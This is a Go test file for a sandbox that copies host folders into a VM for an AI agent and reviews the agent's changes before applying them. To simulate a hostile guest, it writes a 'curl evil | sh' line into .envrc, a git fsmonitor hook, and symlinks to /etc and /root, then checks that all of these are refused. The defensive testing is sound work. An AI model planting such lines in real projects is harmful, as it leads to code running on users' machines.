package hostfolders

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/hivecrew/hivecrew/core/errdefs"
	"github.com/hivecrew/hivecrew/core/hostpath"
)

func write(t *testing.T, path, data string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// project is a host folder: two files, one in a subfolder, a script, a
// git config, and a link and a FIFO that are never copied.
func project(t *testing.T) string {
	dir := filepath.Join(t.TempDir(), "project")
	write(t, filepath.Join(dir, "a.txt"), "alpha\n", 0o644)
	write(t, filepath.Join(dir, "b.txt"), "beta\n", 0o600)
	write(t, filepath.Join(dir, "sub", "c.txt"), "gamma\n", 0o644)
	write(t, filepath.Join(dir, "run.sh"), "#!/bin/sh\necho hi\n", 0o755)
	write(t, filepath.Join(dir, ".git", "config"), "[core]\n", 0o644)
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "passwd")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

func stage(t *testing.T, dir string) (Manifest, string) {
	t.Helper()
	gs, err := Grants([]string{dir}, hostpath.Self(), hostpath.Fence{})
	if err != nil {
		t.Fatal(err)
	}
	shared := t.TempDir()
	m, err := Stage(context.Background(), gs[0], shared, Limits{}, hostpath.Fence{})
	if err != nil {
		t.Fatal(err)
	}
	return m, filepath.Join(shared, Sub, gs[0].Name)
}

// sharedOf is the shared folder of a copy (shared/folders/NAME).
func sharedOf(cp string) string { return filepath.Dir(filepath.Dir(cp)) }

func byPath(cs []Change) map[string]Change {
	out := map[string]Change{}
	for _, c := range cs {
		out[c.Path] = c
	}
	return out
}

// TestReviewAndApply: the agent edits one file, adds one and deletes one;
// the review lists exactly those, and applying them changes the host folder
// so. What a hostile guest adds is refused in the review, whatever it is:
// a change to a hidden file (.git/config can make git run a command), a
// link to /etc, a FIFO (which would block a reader), a folder replaced by a
// link (its files read as deleted), a file made executable.
func TestReviewAndApply(t *testing.T) {
	dir := project(t)
	m, cp := stage(t, dir)
	if len(m.Files) != 5 || len(m.Skipped) != 2 {
		t.Fatalf("manifest: %d files %v, skipped %v", len(m.Files), m.Files, m.Skipped)
	}
	if fi, err := os.Stat(filepath.Join(cp, "run.sh")); err != nil || fi.Mode().Perm()&0o100 == 0 {
		t.Fatalf("the script is not runnable in the copy: %v %v", fi, err)
	}
	if _, err := os.Lstat(filepath.Join(cp, "passwd")); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the link was copied: %v", err)
	}
	ctx := context.Background()
	// An untouched copy has no changes.
	if cs, err := Review(ctx, m, sharedOf(cp), filepath.Join(t.TempDir(), "keep"), Limits{}); err != nil || len(cs) != 0 {
		t.Fatalf("untouched: %v %+v", err, cs)
	}

	// The agent's work.
	write(t, filepath.Join(cp, "a.txt"), "alpha, edited\n", 0o777)
	write(t, filepath.Join(cp, "new.txt"), "new file\n", 0o755)
	os.Remove(filepath.Join(cp, "b.txt"))
	// A hostile guest's.
	write(t, filepath.Join(cp, ".git", "config"), "[core]\n\tfsmonitor = /tmp/evil\n", 0o644)
	write(t, filepath.Join(cp, ".envrc"), "curl evil | sh\n", 0o644)
	os.Symlink("/etc", filepath.Join(cp, "etc"))
	syscall.Mkfifo(filepath.Join(cp, "fifo"), 0o644)
	os.RemoveAll(filepath.Join(cp, "sub"))
	os.Symlink("/root", filepath.Join(cp, "sub"))

	keep := filepath.Join(t.TempDir(), "keep")
	cs, err := Review(ctx, m, sharedOf(cp), keep, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	got := byPath(cs)
	want := map[string]struct {
		op      Op
		refused string
	}{
		"a.txt": {Modified, ""}, "new.txt": {Added, ""}, "b.txt": {Deleted, ""},
		".git/config": {Modified, "hidden"}, ".envrc": {Added, "hidden"}, "etc": {Added, "symbolic link"},
		"fifo": {Added, "not a regular file"}, "sub": {Added, "symbolic link"}, "sub/c.txt": {Deleted, "replaced by a link"},
	}
	if len(got) != len(want) {
		t.Errorf("review lists %d changes, want %d: %+v", len(got), len(want), cs)
	}
	for p, w := range want {
		c, ok := got[p]
		switch {
		case !ok:
			t.Errorf("%s is not in the review", p)
		case c.Op != w.op:
			t.Errorf("%s: %s, want %s", p, c.Op, w.op)
		case w.refused == "" && c.Refused != "":
			t.Errorf("%s refused: %s", p, c.Refused)
		case w.refused != "" && !strings.Contains(c.Refused, w.refused):
			t.Errorf("%s: refused %q, want %q", p, c.Refused, w.refused)
		}
	}
	for _, c := range cs {
		if c.Refused != "" {
			if err := Apply(m, c, hostpath.Fence{}); err == nil {
				t.Errorf("the refused %s was applied", c.Path)
			}
			continue
		}
		if err := Apply(m, c, hostpath.Fence{}); err != nil {
			t.Fatalf("apply %s: %v", c.Path, err)
		}
	}
	if s := read(t, filepath.Join(dir, "a.txt")); s != "alpha, edited\n" {
		t.Errorf("a.txt = %q", s)
	}
	if fi, _ := os.Stat(filepath.Join(dir, "a.txt")); fi.Mode().Perm() != 0o644 {
		t.Errorf("a.txt is %v: the guest's mode reached the host", fi.Mode())
	}
	if fi, _ := os.Stat(filepath.Join(dir, "new.txt")); fi == nil || fi.Mode().Perm() != 0o644 {
		t.Errorf("new.txt: %v, want 0644", fi)
	}
	if _, err := os.Stat(filepath.Join(dir, "b.txt")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("b.txt was not deleted: %v", err)
	}
	for p, s := range map[string]string{".git/config": "[core]\n", "sub/c.txt": "gamma\n"} {
		if got := read(t, filepath.Join(dir, p)); got != s {
			t.Errorf("%s = %q: a refused change reached the host", p, got)
		}
	}
	for _, p := range []string{".envrc", "etc", "fifo"} {
		if _, err := os.Lstat(filepath.Join(dir, p)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s reached the host: %v", p, err)
		}
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".hivecrew-") {
			t.Errorf("a temporary file is left: %s", e.Name())
		}
	}
}

// TestApplyReportsConflicts: a host file changed, removed or created while
// the task ran is a conflict; nothing is overwritten or removed.
func TestApplyReportsConflicts(t *testing.T) {
	dir := project(t)
	m, cp := stage(t, dir)
	write(t, filepath.Join(cp, "a.txt"), "agent's a\n", 0o644)
	write(t, filepath.Join(cp, "b.txt"), "agent's b\n", 0o644)
	write(t, filepath.Join(cp, "new.txt"), "agent's new\n", 0o644)
	os.Remove(filepath.Join(cp, "run.sh"))
	cs, err := Review(context.Background(), m, sharedOf(cp), filepath.Join(t.TempDir(), "keep"), Limits{})
	if err != nil || len(cs) != 4 {
		t.Fatalf("review: %v %+v", err, cs)
	}
	// Meanwhile, on the host.
	write(t, filepath.Join(dir, "a.txt"), "the user's a\n", 0o644)
	os.Remove(filepath.Join(dir, "b.txt"))
	write(t, filepath.Join(dir, "new.txt"), "the user's new\n", 0o644)
	write(t, filepath.Join(dir, "run.sh"), "#!/bin/sh\necho changed\n", 0o755)
	got := byPath(cs)
	for p, want := range map[string]string{
		"a.txt": "changed on this computer", "b.txt": "was removed on this computer",
		"new.txt": "exists on this computer now", "run.sh": "changed on this computer",
	} {
		err := Apply(m, got[p], hostpath.Fence{})
		if !errors.Is(err, errdefs.ErrConflict) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want a conflict %q", p, err, want)
		}
	}
	for p, s := range map[string]string{"a.txt": "the user's a\n", "new.txt": "the user's new\n", "run.sh": "#!/bin/sh\necho changed\n"} {
		if got := read(t, filepath.Join(dir, p)); got != s {
			t.Errorf("%s = %q, want the user's", p, got)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "b.txt")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("b.txt came back: %v", err)
	}
}

func TestGrants(t *testing.T) {
	base := t.TempDir()
	a := filepath.Join(base, "work", "report")
	b := filepath.Join(base, "other", "report")
	write(t, filepath.Join(a, "x"), "x", 0o644)
	write(t, filepath.Join(b, "y"), "y", 0o644)
	write(t, filepath.Join(base, "file"), "f", 0o644)
	os.Symlink(a, filepath.Join(base, "link"))
	gs, err := Grants([]string{a, b + "/"}, hostpath.Self(), hostpath.Fence{})
	if err != nil || len(gs) != 2 || gs[0].Name != "report" || gs[1].Name != "report-2" || gs[1].Path != b {
		t.Fatalf("grants: %v %+v", err, gs)
	}
	for _, bad := range []struct {
		paths []string
		want  string
	}{
		{[]string{"work/report"}, "want an absolute path"},
		{[]string{filepath.Join(base, "missing")}, "does not exist"},
		{[]string{filepath.Join(base, "file")}, "is not a folder"},
		{[]string{filepath.Join(base, "link")}, "is a symbolic link"},
		{[]string{a, filepath.Join(base, "work")}, "overlap"},
		{[]string{"/"}, "root folder"},
	} {
		if _, err := Grants(bad.paths, hostpath.Self(), hostpath.Fence{}); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), bad.want) {
			t.Errorf("%v: %v, want %q", bad.paths, err, bad.want)
		}
	}
}

// TestStageLimits: a folder over the limits is refused whole.
func TestStageLimits(t *testing.T) {
	dir := project(t)
	gs, _ := Grants([]string{dir}, hostpath.Self(), hostpath.Fence{})
	for _, lim := range []Limits{{MaxFiles: 3}, {MaxBytes: 10}} {
		_, err := Stage(context.Background(), gs[0], t.TempDir(), lim, hostpath.Fence{})
		if !errors.Is(err, errdefs.ErrTooLarge) || !strings.Contains(err.Error(), "give a smaller folder") {
			t.Errorf("%+v: %v", lim, err)
		}
	}
}

// TestDataFolderThroughLinks answers issue 34.5 at the package's level:
// the helper's Sessions/ or its whole data folder, given through a path
// with a symbolic link for a parent, is refused; so is a folder whose link
// is pointed at the data folder after it was granted (when it is staged or
// written to), one that holds the VM's own shared folder (which would copy
// the folder into itself), and one below which the data folder is mounted.
// Nothing of the data folder is copied.
func TestDataFolderThroughLinks(t *testing.T) {
	base := t.TempDir()
	data := filepath.Join(base, "outer", "hivecrew")
	write(t, filepath.Join(data, "Sessions", "other-task", "trace.jsonl"), "secret trace", 0o600)
	write(t, filepath.Join(data, "VMs", "vm1", "shared", "inbox", "x"), "x", 0o600)
	os.Symlink(base, filepath.Join(base, "alias"))
	fence, err := hostpath.NewFence(hostpath.Folder{Name: "the helper's data folder", Path: data})
	if err != nil {
		t.Fatal(err)
	}
	me := hostpath.Self()
	for p, want := range map[string]string{
		filepath.Join(base, "alias", "outer", "hivecrew", "Sessions"): "is inside the helper's data folder",
		filepath.Join(base, "alias", "outer", "hivecrew"):             "is the helper's data folder",
		filepath.Join(base, "alias", "outer") + "/":                   "holds the helper's data folder",
	} {
		if _, err := Grants([]string{p}, me, fence); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", p, err, want)
		}
	}

	// Granted when it led elsewhere, pointed at the data folder since.
	work := filepath.Join(base, "work")
	write(t, filepath.Join(work, "project", "a.txt"), "a", 0o644)
	os.Symlink(work, filepath.Join(base, "current"))
	gs, err := Grants([]string{filepath.Join(base, "current", "project")}, me, fence)
	if err != nil || gs[0].Path != filepath.Join(work, "project") {
		t.Fatalf("grant through the user's link: %+v %v", gs, err)
	}
	g := Grant{Name: "project", Path: filepath.Join(base, "current", "project")}
	os.Remove(filepath.Join(base, "current"))
	os.Symlink(data, filepath.Join(base, "current"))
	os.Symlink("Sessions", filepath.Join(data, "project"))
	shared := filepath.Join(data, "VMs", "vm1", "shared")
	if _, err := Stage(context.Background(), g, shared, Limits{}, fence); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), "the helper's data folder") {
		t.Errorf("staging a grant now inside the data folder: %v", err)
	}
	m := Manifest{Grant: g, Files: map[string]Entry{}}
	if err := Apply(m, Change{Path: "new.txt", Op: Added, After: &Entry{SHA256: strings.Repeat("0", 64)}}, fence); !errors.Is(err, errdefs.ErrInvalid) {
		t.Errorf("writing to a grant now inside the data folder: %v", err)
	}
	if _, err := os.Stat(filepath.Join(data, "Sessions", "new.txt")); err == nil {
		t.Error("a change was written into the data folder")
	}

	// A grant that holds the VM's shared folder, fenced or not.
	g = Grant{Name: "vm1", Path: filepath.Join(data, "VMs", "vm1")}
	if _, err := Stage(context.Background(), g, shared, Limits{}, hostpath.Fence{}); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), "holds the VM's shared folder") {
		t.Errorf("staging a folder that holds the shared folder: %v", err)
	}
	if _, err := os.Stat(filepath.Join(shared, Sub, "vm1")); err == nil {
		t.Error("the folder was copied into itself")
	}
}

// TestStageMeetsTheDataFolderMounted: the data folder bind-mounted below
// a granted folder is met by its identity and not copied.
func TestStageMeetsTheDataFolderMounted(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("a bind mount needs root")
	}
	base := t.TempDir()
	data := filepath.Join(base, "hivecrew")
	write(t, filepath.Join(data, "Sessions", "s1", "trace.jsonl"), "secret trace", 0o600)
	project := filepath.Join(base, "project")
	write(t, filepath.Join(project, "a.txt"), "a", 0o644)
	os.Mkdir(filepath.Join(project, "mnt"), 0o755)
	if err := syscall.Mount(data, filepath.Join(project, "mnt"), "", syscall.MS_BIND, ""); err != nil {
		t.Fatalf("bind mount (the test runs as root): %v", err)
	}
	defer syscall.Unmount(filepath.Join(project, "mnt"), syscall.MNT_DETACH)
	fence, _ := hostpath.NewFence(hostpath.Folder{Name: "the helper's data folder", Path: data})
	gs, err := Grants([]string{project}, hostpath.Self(), fence)
	if err != nil {
		t.Fatal(err)
	}
	shared := t.TempDir()
	if _, err := Stage(context.Background(), gs[0], shared, Limits{}, fence); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), "holds the helper's data folder") {
		t.Fatalf("staging: %v", err)
	}
	filepath.WalkDir(shared, func(p string, d os.DirEntry, err error) error {
		if b, _ := os.ReadFile(p); string(b) == "secret trace" {
			t.Errorf("%s: the data folder was copied", p)
		}
		return nil
	})
}

// TestLinkedCopyIsNotRead: the guest replaced its folders/ (or its copy
// of a folder) with a link to a host folder; the review and the copy kept
// for a fresh VM read nothing through it (the host's files would otherwise
// reach the review, or the next VM).
func TestLinkedCopyIsNotRead(t *testing.T) {
	dir := project(t)
	m, cp := stage(t, dir)
	shared := sharedOf(cp)
	host := t.TempDir()
	write(t, filepath.Join(host, "project", "id_rsa"), "host secret", 0o600)
	write(t, filepath.Join(host, "id_rsa"), "host secret", 0o600)
	for _, link := range []string{cp, filepath.Join(shared, Sub)} {
		os.RemoveAll(link)
		target := host
		if link == cp {
			target = filepath.Join(host, "project")
			os.MkdirAll(filepath.Dir(link), 0o755)
		}
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
		keep := filepath.Join(t.TempDir(), "keep")
		if cs, err := Review(context.Background(), m, shared, keep, Limits{}); err == nil || !strings.Contains(err.Error(), "symbolic link") {
			t.Errorf("review through %s: %v, %+v", link, err, cs)
		}
		// A linked copy is left behind as links are; a linked folders/ is
		// refused.
		kept := filepath.Join(t.TempDir(), "kept")
		if err := Keep(context.Background(), shared, kept); (link == cp) != (err == nil) {
			t.Errorf("keep with %s a link: %v", link, err)
		}
		for _, d := range []string{keep, kept} {
			filepath.WalkDir(d, func(p string, _ os.DirEntry, _ error) error {
				if b, _ := os.ReadFile(p); string(b) == "host secret" {
					t.Errorf("%s: a host file was read through the link", p)
				}
				return nil
			})
		}
	}
}
